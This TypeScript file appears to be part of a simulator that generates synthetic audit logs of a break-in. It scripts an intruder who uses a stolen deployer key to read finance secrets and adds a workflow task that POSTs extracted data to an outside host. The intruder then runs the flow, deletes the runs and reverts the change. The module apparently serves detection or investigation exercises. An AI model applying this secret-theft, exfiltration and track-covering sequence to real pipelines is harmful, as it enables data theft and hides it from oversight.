import type { JsonObject } from '@/lib/base/json'

import { BREAK_IN } from './break-in-places'
import { MINUTE, SECOND } from './calendar'
import { serviceStanding } from './cast'
import { saveFlow } from './deliver'
import { runFacts } from './execution-records'
import { startRun } from './executions'
import { withTask } from './flow-edits'
import type { Standing } from './ledger'
import { aroundThen, documentOf, flowOf, type Run, type World } from './world'

/** What the intruder's key does. It passes for the deployer; its id, its address and its tool do not. */
export function planIntruderKey(world: World, from: number): void {
  const by = serviceStanding({ ...world.crew.ci, ip: BREAK_IN.secondIp, userAgent: BREAK_IN.tool })
  const facts = { apiKeyId: BREAK_IN.keyId }
  const traceId = world.random('the intruder').hex(32)
  readSecrets(world, from, by, { facts, traceId })
  changeFlow(world, from + 22 * MINUTE, by, { facts, traceId })
  runTwice(world, from + 27 * MINUTE, by, { facts, traceId })
  // The usual run of the night, at 04:15, carries the task too. Then the flow is put back.
  revertFlow(world, from + 118 * MINUTE, by, { facts, traceId })
}

interface Mark {
  facts: JsonObject
  traceId: string
}

function readSecrets(world: World, from: number, by: Standing, { facts, traceId }: Mark): void {
  const random = world.random('secrets at night')
  BREAK_IN.secrets.forEach((name, n) => {
    world.timeline.at(from + (n + 1) * random.int(30_000, 48_000), (ms) =>
      world.ledger.record(ms, {
        by,
        action: 'secret.read',
        change: 'READ',
        resource: { type: 'SECRET', id: `company.finance/${name}`, name },
        message: `The deployer read the secret ${name} of company.finance.`,
        details: { namespace: 'company.finance', key: name, ...facts },
        traceId,
      }),
    )
  })
  world.timeline.at(aroundThen(world, from + 6 * MINUTE), (ms) =>
    world.ledger.record(ms, {
      by,
      action: 'secret.read',
      change: 'READ',
      resource: { type: 'SECRET', id: 'company.people/HR_SYSTEM_TOKEN', name: 'HR_SYSTEM_TOKEN' },
      outcome: 'failure',
      reason: 'The namespace company.people asks for a second approval',
      message: 'The deployer was not allowed to read the secret HR_SYSTEM_TOKEN of company.people.',
      details: { namespace: 'company.people', key: 'HR_SYSTEM_TOKEN', ...facts },
      traceId,
    }),
  )
}

function changeFlow(world: World, at: number, by: Standing, mark: Mark): void {
  const flow = flowOf(world, BREAK_IN.flowId)
  world.timeline.at(aroundThen(world, at), (ms) =>
    saveFlow(world, flow, ms, {
      by,
      who: 'The deployer',
      edit: withTask(documentOf(world, flow), {
        id: BREAK_IN.taskId,
        type: 'http.Request',
        method: 'POST',
        uri: `https://${BREAK_IN.host}/u/7f3a`,
        body: '{{ outputs.extract.uri }}',
        allowFailed: true,
      }),
      ...mark,
    }),
  )
}

/** Two runs by hand, deleted afterwards. */
function runTwice(world: World, from: number, by: Standing, { facts, traceId }: Mark): void {
  const flow = flowOf(world, BREAK_IN.flowId)
  for (const [n, day] of ['month to date', 'last month'].entries()) {
    world.timeline.at(aroundThen(world, from + n * 90 * SECOND), (ms) => {
      const run = startRun(world, flow, ms, {
        by,
        trigger: 'api',
        traceId,
        inputs: { range: day },
        facts,
        message: `The deployer started ${flow.id} for ${day}.`,
      })
      world.timeline.at(aroundThen(world, from + (84 + n) * MINUTE), (later) =>
        deleteRun(world, run, later, by, { facts, traceId }),
      )
    })
  }
}

function deleteRun(world: World, run: Run, ms: number, by: Standing, { facts, traceId }: Mark): void {
  world.failed.delete(run.id)
  world.ledger.record(ms, {
    by,
    action: 'execution.delete',
    change: 'DELETE',
    resource: { type: 'EXECUTION', id: run.id, name: run.flow.id },
    message: `The deployer deleted an execution of ${run.flow.id}.`,
    details: { ...runFacts(run), ...facts },
    traceId,
  })
}

function revertFlow(world: World, at: number, by: Standing, mark: Mark): void {
  const flow = flowOf(world, BREAK_IN.flowId)
  world.timeline.at(aroundThen(world, at), (ms) => {
    const document = documentOf(world, flow)
    const tasks = Array.isArray(document['tasks']) ? document['tasks'].slice(0, -1) : []
    saveFlow(world, flow, ms, {
      by,
      who: 'The deployer',
      edit: { document: { ...document, tasks }, what: `removed the task ${BREAK_IN.taskId} from ${flow.id}` },
      ...mark,
    })
  })
}
